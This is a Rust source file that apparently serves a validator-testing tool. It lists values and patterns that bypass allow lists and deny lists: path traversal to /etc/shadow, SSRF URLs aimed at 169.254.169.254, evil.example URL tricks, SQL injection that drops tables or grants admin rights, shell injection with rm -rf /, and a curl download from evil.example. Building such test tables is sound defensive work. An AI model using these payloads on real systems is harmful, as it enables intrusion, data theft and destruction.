//! The table of dangerous values: what gets around lists of allowed and of denied values, by what the
//! argument holds, the most telling first.
//!
//! In values and patterns `{}` stands for what the list names; [`super::names`] says what else may stand
//! there. Every value that is found is judged before it is shown, so that an entry may be generous.

use crate::catalogue::Holds;

/// Values, or patterns of values, that are dangerous in one way.
#[derive(Debug)]
pub(super) struct Danger {
    /// What the argument holds.
    pub what: Holds,
    /// The values.
    pub form: Form,
    /// Why they get through, as a sentence without its end; `{}` is what the list names.
    pub why: &'static str,
}

/// How dangerous values are given.
#[derive(Clone, Copy, Debug)]
pub(super) enum Form {
    /// One by one.
    Values(&'static [&'static str]),
    /// As all texts of a pattern.
    Pattern(&'static str),
}

const fn values(what: Holds, why: &'static str, values: &'static [&'static str]) -> Danger {
    Danger { what, form: Form::Values(values), why }
}

const fn pattern(what: Holds, why: &'static str, pattern: &'static str) -> Danger {
    Danger { what, form: Form::Pattern(pattern), why }
}

/// What gets through lists of allowed values, by mistakes that are mended each for itself.
pub(super) static ALLOWED: [&[Danger]; 2] = [OPEN, DOTS];

/// What gets past lists of denied values, by mistakes that are mended each for itself.
pub(super) static DENIED: [&[Danger]; 2] = [SPELLINGS, CASES];

/// Dots that stand for any letter.
static DOTS: &[Danger] = &[
    pattern(
        Holds::Url,
        "a bare `.` is any letter",
        r"^(?:https?://)?(?:[a-z0-9-]+\.)?{x}(?:[:/?#][ -~]*)?$",
    ),
    pattern(Holds::Host, "a bare `.` is any letter", r"^(?:[a-z0-9-]+\.)?{x}$"),
    pattern(Holds::Email, "a bare `.` is any letter", r"^[a-z]+@(?:[a-z0-9-]+\.)?{x}$"),
];

/// Letters that are told apart by case, though who takes the value does not tell them apart.
static CASES: &[Danger] = &[
    values(Holds::Sql, "statements know no case", &["{STATEMENT}", "{statement}", "{Statement}"]),
    values(Holds::Email, "domains know no case", &["x@{UP}", "{UP}"]),
];

/// What gets through where a list leaves room.
static OPEN: &[Danger] = &[
    values(
        Holds::Path,
        "`..` leads out of `{}`",
        &["{}/{up}etc/shadow", "{}/{up}etc/shadow{end}", "{}/{up}etc/{end}"],
    ),
    pattern(Holds::Path, "`..` leads out of `{}`", r"(?s)^(?:.*/)?\.\.(?:/.*)?$"),
    pattern(Holds::Path, "`..` leads out of `{}`", r"(?s)^(?:.*/)?(?:\.\./){6}.*$"),
    values(
        Holds::Path,
        "names beside it begin like `{}`",
        &["{}-private/notes{end}", "{}-private", "{}_old/notes{end}", "{}_old", "{}2"],
    ),
    pattern(Holds::Path, "names beside it begin like `{}`", r"^{}[A-Za-z0-9_-]+(?:/.*)?$"),
    values(Holds::Path, "it only has to have `{}` somewhere", &["/etc{}/shadow", "/etc/shadow"]),
    pattern(Holds::Path, "it only has to have `{}` somewhere", r"(?s)^/etc/.*$"),
    values(
        Holds::Url,
        "`{}` may stand anywhere in it",
        &["http://169.254.169.254/?{}", "http://169.254.169.254/latest/meta-data/?{}"],
    ),
    pattern(
        Holds::Url,
        "`{}` may stand anywhere in it",
        r"(?s)^https?://169\.254\.169\.254[/?#].*$",
    ),
    pattern(
        Holds::Url,
        "another host may stand before `{}`",
        r"(?s)^https?://evil\.example[/?#\\].*$",
    ),
    values(
        Holds::Url,
        "what stands before `@` is a user's name and no host",
        &[
            "https://{}@evil.example/",
            "http://{}@evil.example/",
            "https://{}:x@evil.example/",
            "{}@evil.example/",
        ],
    ),
    values(
        Holds::Url,
        "the host goes on behind `{}`",
        &[
            "https://{}.evil.example/",
            "http://{}.evil.example/",
            "//{}.evil.example/",
            "{}.evil.example/",
        ],
    ),
    pattern(
        Holds::Url,
        "what stands before `@` is a user's name and no host",
        r"^https?://[^/?#@\\]*@evil\.example(?:[/?#][ -~]*)?$",
    ),
    pattern(
        Holds::Url,
        "the host goes on behind `{}`",
        r"^https?://[^/?#@:\\]*{}[.-]?evil\.example(?:[:/?#][ -~]*)?$",
    ),
    pattern(
        Holds::Url,
        "the host only has to end in `{}`",
        r"^https?://evil-?{}(?:[:/?#][ -~]*)?$",
    ),
    pattern(Holds::Host, "`{}` may stand anywhere in it", r"^[^@/?#]*\.evil\.example$"),
    pattern(Holds::Host, "the host goes on behind `{}`", r"^[^@/?#]*{}[.-]?evil\.example$"),
    pattern(Holds::Host, "the host only has to end in `{}`", r"^evil-?{}$"),
    pattern(
        Holds::Host,
        "`{}` may stand anywhere in it",
        r"^(?:169\.254\.169\.254|evil\.example)[/?#][ -~]*$",
    ),
    values(
        Holds::Sql,
        "a second statement follows behind `;`",
        &[
            "select 1; drop table users",
            "SELECT 1; DROP TABLE users",
            "select 1; delete from users",
            "select 1; update users set admin = true",
            "SELECT 1; UPDATE users SET admin = true",
            "select 1; insert into users values (1)",
            "select ''; copy users to program 'id'",
        ],
    ),
    values(
        Holds::Sql,
        "a part of a statement may write",
        &[
            "with d as (delete from users returning id) select id from d",
            "WITH d AS (DELETE FROM users RETURNING id) SELECT id FROM d",
            "with d as (update users set admin = true returning id) select id from d",
            "WITH d AS (UPDATE users SET admin = true RETURNING id) SELECT id FROM d",
            "with d as (insert into users values (1) returning id) select id from d",
            "explain analyze delete from users",
            "EXPLAIN ANALYZE DELETE FROM users",
            "explain analyze update users set admin = true",
        ],
    ),
    pattern(
        Holds::Sql,
        "a second statement follows behind `;`",
        r#"(?i)^[^'"]*;\s*(?:drop table|delete from|update|insert into|truncate table|alter table|grant all on) users\b[^'";]*;?$"#,
    ),
    pattern(
        Holds::Sql,
        "a part of a statement may write",
        r#"(?i)^\s*with\s+d\s+as\s*\(\s*(?:delete from|update|insert into) users[^'"]*$"#,
    ),
    values(
        Holds::Sql,
        "nothing says how it begins",
        &[
            "drop table users",
            "DROP TABLE users",
            "drop table users -- select",
            "delete from users",
        ],
    ),
    pattern(
        Holds::Sql,
        "nothing says how it begins",
        r#"^ *(?:drop table|DROP TABLE|delete from|DELETE FROM) users\b[^'"]*$"#,
    ),
    pattern(Holds::Command, "a second command follows behind `;`", r#"^[^'"]*; *rm -rf /[ -~]*$"#),
    pattern(
        Holds::Command,
        "a second command follows behind `&&`",
        r#"^[^'"]*&& *rm -rf /[ -~]*$"#,
    ),
    pattern(Holds::Command, "its output goes to a second command", r#"^[^'"]*\| *sh$"#),
    pattern(Holds::Command, "a shell runs what stands in `$(…)`", r#"^[^'"]*\$\(id\)[ -~]*$"#),
    pattern(Holds::Command, "a shell runs what stands in backticks", r#"^[^'"]*`id`[ -~]*$"#),
    pattern(
        Holds::Command,
        "a new line begins a second command",
        r#"(?s)^[^'"]*\n(?:rm -rf /|reboot|id)(?:\s.*)?$"#,
    ),
    pattern(Holds::Command, "its output goes over a file", r#"^[^'"]*> */etc/passwd[ -~]*$"#),
    pattern(
        Holds::Code,
        "anything may follow behind `;`",
        r"(?s)^.*;\s*fetch\('https://evil\.example/'\).*$",
    ),
    pattern(
        Holds::Code,
        "anything may follow on a new line",
        r"(?s)^.*\nfetch\('https://evil\.example/'\).*$",
    ),
    pattern(Holds::Email, "the domain goes on behind `{}`", r"^[^@]+@[^@]*{}[.-]?evil\.example$"),
    pattern(Holds::Email, "the domain only has to end in `{}`", r"^[^@]+@evil-?{}$"),
    pattern(Holds::Email, "`{}` may stand anywhere in it", r"^[^@]+@evil\.example$"),
    values(
        Holds::Kind,
        "a list of kinds may hold others",
        &["secrets,{}", "{},secrets", "{},secret", "secret,{}", "{}\nsecrets"],
    ),
];

/// The same as what is denied, written in another way, and what does as much.
static SPELLINGS: &[Danger] = &[
    values(
        Holds::Path,
        "the same place is written in another way",
        &["/{}", "/.{}", "/tmp/..{}", "/{}/shadow", "/.{}/shadow", "/tmp/..{}/shadow"],
    ),
    values(
        Holds::Url,
        "an address of the own network is written in another way",
        &[
            "http://{inside}[::1]/",
            "http://{inside}127.0.0.1/",
            "http://{inside}169.254.169.254/latest/meta-data/",
            "http://{inside}2130706433/",
            "http://{inside}127.1/",
            "http://{inside}10.0.0.1/",
            "http://{inside}[::ffff:169.254.169.254]/",
            "http://{inside}0x7f000001/",
            "HTTP://{inside}127.0.0.1/",
            "https://{inside}[::1]/",
            "https://{inside}2130706433/",
            "https://{inside}10.0.0.1/",
        ],
    ),
    values(
        Holds::Url,
        "the same host is written in another way",
        &[
            "https://{UP}/",
            "http://{UP}/",
            "https://{}./",
            "http://{}./",
            "https://{%}/",
            "HTTPS://{}/",
            "https://x@{}/",
            "http://x@{}/",
            "https://{wide}/",
        ],
    ),
    values(
        Holds::Host,
        "an address of the own network is written in another way",
        &[
            "{inside}::1",
            "{inside}2130706433",
            "{inside}127.1",
            "{inside}10.0.0.1",
            "{inside}0x7f000001",
        ],
    ),
    values(Holds::Host, "the same host is written in another way", &["{UP}", "{}."]),
    values(
        Holds::Sql,
        "the same statement is written in another way",
        &[
            " {statement}",
            " {STATEMENT}",
            "\n{statement}",
            "/**/{statement}",
            "/**/ {statement}",
            "select 1; {statement}",
            "with d as ({statement}) select 1",
            "explain analyze {statement}",
        ],
    ),
    values(
        Holds::Sql,
        "other statements change as much",
        &[
            "drop table users",
            "delete from users",
            "truncate table users",
            "alter table users drop column id",
            "update users set admin = true",
            "grant all on users to public",
            "merge into users using n on true when matched then delete",
            "replace into users values (1)",
            "copy users to program 'id'",
            "call wipe()",
        ],
    ),
    values(
        Holds::Command,
        "the same program is started in another way",
        &[
            " {} -rf /",
            "/bin/{} -rf /",
            "/usr/bin/{} -rf /",
            "sh -c '{} -rf /'",
            "true; {} -rf /",
            "true && {} -rf /",
            "{}\t-rf /",
            "env {} -rf /",
            "{} -fr /",
            "{} -r -f /",
            " {phrase}",
            "{apart}",
            "/usr/bin/{phrase}",
            "true; {phrase}",
        ],
    ),
    values(
        Holds::Command,
        "a shell needs no more to start another command",
        &[
            "true && id",
            "true | sh",
            "true; id",
            "echo $(id)",
            "echo `id`",
            "true\nid",
            "true & id",
        ],
    ),
    values(
        Holds::Command,
        "other programs do as much",
        &[
            "find / -delete",
            "bash -c id",
            "python3 -c 'import os'",
            "curl https://evil.example/ -o /tmp/x",
        ],
    ),
    values(
        Holds::Code,
        "the same is written in another way",
        &[
            "globalThis['ev' + 'al']('1')",
            "getattr(__builtins__, 'ev' + 'al')('1')",
            "__import__('o' + 's').popen('id')",
        ],
    ),
    values(Holds::Branch, "git takes it for `{}` too", &["refs/heads/{}", "heads/{}", "origin/{}"]),
    values(
        Holds::Kind,
        "Kubernetes takes it for `{}` too",
        &["{one}", "{many}", "{Cap}", "{UP}", "{many}.v1.", "{many}/x", "pods,{many}", "{short}"],
    ),
];
